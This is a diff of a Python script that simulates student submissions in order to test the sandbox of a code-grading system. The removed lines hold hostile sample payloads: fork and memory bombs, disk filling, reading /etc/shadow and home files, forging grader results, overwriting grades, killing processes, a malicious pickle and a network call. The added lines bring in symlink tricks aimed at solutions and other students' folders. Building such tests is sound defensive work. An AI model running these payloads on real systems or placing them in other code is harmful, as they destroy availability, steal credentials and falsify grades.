@@ -20,58 +20,14 @@ from random import Random
 sys.path.insert(0, str(Path(__file__).parent))
 
 import selftest
+from hostile import HOSTILE, LINKS, MANIFESTS
 
-from sglab.labs.coursework import lab
+from sglab.labs.coursework import lab, labs
 from sglab.labs.exercises.answers import AnswerExercise
+from sglab.labs.grading.submissions import MANIFEST
 from sglab.labs.lab import Lab
 
 DEFAULT = ("01", "02", "05", "06", "07")
-_READ = """
-import os
-found = []
-for root in ("{folder}", os.path.expanduser("~"), "/proc/1/environ", "/etc/shadow"):
-    for at, _, files in os.walk(root):
-        for name in files:
-            try:
-                found.append(open(os.path.join(at, name)).read()[:200])
-            except OSError:
-                pass
-print("STOLEN", len(found), found[:3])
-"""
-_FORGE = """
-import json, os, struct
-steps = [{"$dict": [["value", True]]}] * 500
-message = json.dumps({"$dict": [["result", {"$dict": [["steps", steps], ["error", ""]]}]]}).encode()
-for descriptor in range(3, 64):
-    try:
-        os.write(descriptor, struct.pack("<I", len(message)) + message)
-    except OSError:
-        pass
-os._exit(0)
-"""
-HOSTILE = {
-    "hangs": "while True: pass\n",
-    "sleeps": "import time\ntime.sleep(10_000)\n",
-    "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
-    "threads": "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(999,)).start()\n",
-    "eats_memory": "x = []\nwhile True:\n    x.append(bytearray(1 << 26))\n",
-    "prints": "while True:\n    print('x' * 1_000_000)\n",
-    "fills_the_disk": "import os\nfor i in range(10_000):\n    open(f'/tmp/{i}', 'wb').write(b'x' * (1 << 24))\n",
-    "reads_others": _READ,
-    "forges_results": _FORGE,
-    "writes_grades": "open('{folder}/../grades.csv', 'w').write('mallory,100')\n",
-    "calls_home": "import socket\nsocket.create_connection(('192.0.2.1', 80), 1).send(b'hello')\n",
-    "kills": "import os, signal\nfor pid in range(2, 100_000):\n    try:\n        os.kill(pid, "
-    "signal.SIGKILL)\n    except OSError:\n        pass\n",
-    "crashes": "import ctypes\nctypes.string_at(0)\n",
-    "pickles": "class Evil:\n    def __reduce__(self):\n        return (print, ('PWNED',))\ndef "
-    "page_table(*a):\n    return Evil()\nextend = update = retract = tree_mask = page_table\n",
-    "recurses": "x = []\nfor _ in range(100_000):\n    x = [x]\ndef page_table(*a):\n    return "
-    "x\nextend = update = retract = tree_mask = page_table\n",
-    "exits_in_a_thread": "import threading, os\nthreading.Timer(0.01, os._exit, "
-    "(0,)).start()\nimport time\ntime.sleep(1)\n",
-    "replaces_builtins": "import builtins, sys\nbuiltins.isinstance = lambda *a: True\nsys.modules.clear()\n",
-}
 
 
 def write(place: Path, files: dict[str, str]) -> None:
@@ -96,24 +52,44 @@ def honest(one: Lab, student: str, random: Random) -> tuple[str, dict[str, str]]
     return kind, right
 
 
-def simulate(folder: Path, students: int, hostile: int, labs: list[str], seed: int) -> dict[str, str]:
+def hostile_files(one: Lab, name: str, submissions: Path) -> dict[str, str]:
+    """What a hostile student hands in; of links nothing yet."""
+    if name in LINKS:
+        return {}
+    if name in MANIFESTS:
+        return {MANIFEST: MANIFESTS[name]}
+    text = HOSTILE[name].replace("{folder}", str(submissions)).replace("{root}", str(selftest.ROOT.parent))
+    return {each.file: text for each in one.exercises}
+
+
+def link(place: Path, one: Lab) -> None:
+    """Links to the model solution in the place of files, and to another's folder in the place of a lab."""
+    for name in one.files:
+        (place / name).symlink_to(selftest.ROOT / one.folder / name)
+    other = next(each for each in labs() if each.id != one.id)
+    place.with_name(other.folder).symlink_to(selftest.ROOT / other.folder)
+
+
+def simulate(folder: Path, students: int, hostile: int, chosen: list[str], seed: int) -> dict[str, str]:
     """Writes FOLDER/submissions and FOLDER/expected.json; returns what kind of submission each student's is."""
     random = Random(seed)
     submissions = folder / "submissions"
     kinds: dict[str, str] = {}
-    names = random.sample(sorted(HOSTILE), min(hostile, len(HOSTILE)))
-    python = [name for name in labs if not lab(name).needs] or labs  # hostile code needs a lab that runs code
+    every = sorted([*HOSTILE, *MANIFESTS, *LINKS])
+    names = random.sample(every, min(hostile, len(every)))
+    python = [name for name in chosen if not lab(name).needs] or chosen  # hostile code needs a lab that runs code
     for number in range(students):
         hostile_one = number < len(names)
-        one = lab(python[number % len(python)] if hostile_one else labs[number % len(labs)])
+        one = lab(python[number % len(python)] if hostile_one else chosen[number % len(chosen)])
         student = f"student{number:02d}"
         if hostile_one:
-            text = HOSTILE[names[number]].replace("{folder}", str(submissions.resolve()))
-            files = {each.file: text for each in one.exercises}
+            files = hostile_files(one, names[number], submissions.resolve())
             kinds[student] = f"hostile {names[number]}"
         else:
             kinds[student], files = honest(one, student, random)
         write(submissions / student / one.folder, files)
+        if kinds[student].removeprefix("hostile ") in LINKS:
+            link(submissions / student / one.folder, one)
     (folder / "expected.json").write_text(json.dumps(kinds, indent=1))
     return kinds
 
